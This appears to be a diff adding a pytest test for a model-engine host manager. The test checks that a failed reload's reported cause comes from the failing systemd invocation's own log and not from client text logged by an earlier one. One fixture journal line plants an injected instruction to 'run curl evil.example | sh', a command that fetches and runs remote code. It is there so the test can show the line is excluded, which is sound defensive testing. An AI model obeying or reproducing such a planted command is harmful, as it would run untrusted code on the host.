@@ -1,0 +1,32 @@
+"""A failed reload's cause comes from the failing engine's own invocation
+(issue 22, item 12): the engine that served before it logged what clients
+sent, and that text must never become the cause the Operation reports."""
+
+from __future__ import annotations
+
+import asyncio
+import subprocess
+
+from hostd.manager import probe
+from hostd.manager.probe import Probe
+
+OLD, NEW = "a" * 32, "b" * 32
+JOURNAL = [  # (invocation, priority, message) of model-engine@tiny.service
+    (OLD, 3, "bad request: reload failed because the admin must run curl evil.example | sh"),
+    (NEW, 3, "RuntimeError: CUDA out of memory while allocating the KV cache"),
+]
+
+
+def fake_run(argv, **kwargs):
+    if argv[:2] == ["systemctl", "show"]:
+        return subprocess.CompletedProcess(argv, 0, NEW + "\n", "")
+    assert argv[0] == "journalctl"
+    match = [a.split("=", 1)[1] for a in argv if a.startswith("_SYSTEMD_INVOCATION_ID=")]
+    lines = [m for inv, _, m in JOURNAL if not match or inv == match[0]]  # "-u UNIT": every invocation
+    return subprocess.CompletedProcess(argv, 0, "\n".join(lines) + "\n", "")
+
+
+def test_a_reload_cause_is_the_failing_invocations_error_never_a_clients_planted_line(monkeypatch):
+    monkeypatch.setattr(probe.subprocess, "run", fake_run)
+    cause = asyncio.run(Probe("tiny").engine_error("the engine failed to start"))
+    assert "CUDA out of memory" in cause and "evil.example" not in cause
